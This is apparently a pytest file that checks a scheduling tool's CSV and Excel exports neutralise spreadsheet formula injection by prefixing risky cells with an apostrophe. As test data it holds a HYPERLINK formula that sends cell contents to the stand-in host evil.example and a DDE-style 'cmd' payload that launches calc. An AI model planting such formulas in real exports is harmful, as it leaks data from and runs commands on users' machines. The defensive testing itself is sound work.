"""Issue 22, exports: a cell that a spreadsheet would run as a formula (``= + - @``, tab,
CR at the start) is written as text, in the service's exports and the command line's alike
(one implementation, :func:`optimizer.io.tables.safe_cell`)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from optimizer.domain.roster import Roster
from optimizer.io.roster_export import roster_to_csv_text, roster_to_xlsx_bytes
from optimizer.io.tables import csv_text, safe_cell, unescape_cell
from service.exports import export, plan_csv
from tests.unit.test_roster_helpers import DAY, engineer, request, solved

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def evil_roster() -> Roster:
    """A week solved for one engineer whose name is a formula, on a template named ``=day``
    (names come from the master data, which anyone with the head's key may type)."""
    return solved(
        request(
            engineers=[engineer("a", name=EVIL)],
            shift_templates=[DAY.model_copy(update={"name": "=day"})],
        )
    )


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+7 845 200-00-00", "'+7 845 200-00-00"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12.5", "-12.5"),
        (-3, -3),
        ("Иван Петров", "Иван Петров"),
        ("", ""),
    ],
)
def test_a_formula_like_cell_gets_an_apostrophe_and_reads_back_as_it_was(
    value: object, written: object
) -> None:
    assert safe_cell(value) == written
    if isinstance(written, str):
        assert unescape_cell(written) == value


def test_the_command_line_csv_writer_escapes_every_cell() -> None:
    rows = list(csv.reader(io.StringIO(csv_text(["id", "title"], [["t1", EVIL]]))))
    assert rows[1] == ["t1", "'" + EVIL]


def test_the_service_plan_and_roster_csv_escape_formulas(evil_roster: Roster) -> None:
    plan = {"assignments": [{"ticket_id": EVIL, "engineer_id": "@x", "slack_min": -5}]}
    rows = list(csv.DictReader(io.StringIO(plan_csv(plan))))
    assert rows[0]["ticket_id"] == "'" + EVIL and rows[0]["engineer_id"] == "'@x"
    assert rows[0]["slack_min"] == "-5"
    file = export("roster", evil_roster.model_dump(mode="json"), "csv", "job")
    rows = list(csv.DictReader(io.StringIO(bytes(file.body).decode("utf-8-sig"))))
    assert rows and all(r["engineer"] == "'" + EVIL and r["template"] == "'=day" for r in rows)


def _cells(data: bytes) -> list[tuple[object, str]]:
    wb = load_workbook(io.BytesIO(data))
    return [(c.value, c.data_type) for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_the_service_roster_workbook_holds_no_formula(evil_roster: Roster) -> None:
    file = export("roster", evil_roster.model_dump(mode="json"), "xlsx", "job")
    cells = _cells(bytes(file.body))
    assert all(kind != "f" for _, kind in cells)
    values = [v for v, _ in cells]
    assert "'" + EVIL in values and "'=day" in values


def test_the_command_line_roster_exports_hold_no_formula(evil_roster: Roster) -> None:
    text = roster_to_csv_text(evil_roster)
    assert "'" + EVIL.replace('"', '""') in text and ",'=day," in text
    cells = _cells(roster_to_xlsx_bytes(evil_roster))
    assert all(kind != "f" for _, kind in cells)
    assert "'" + EVIL in [v for v, _ in cells]
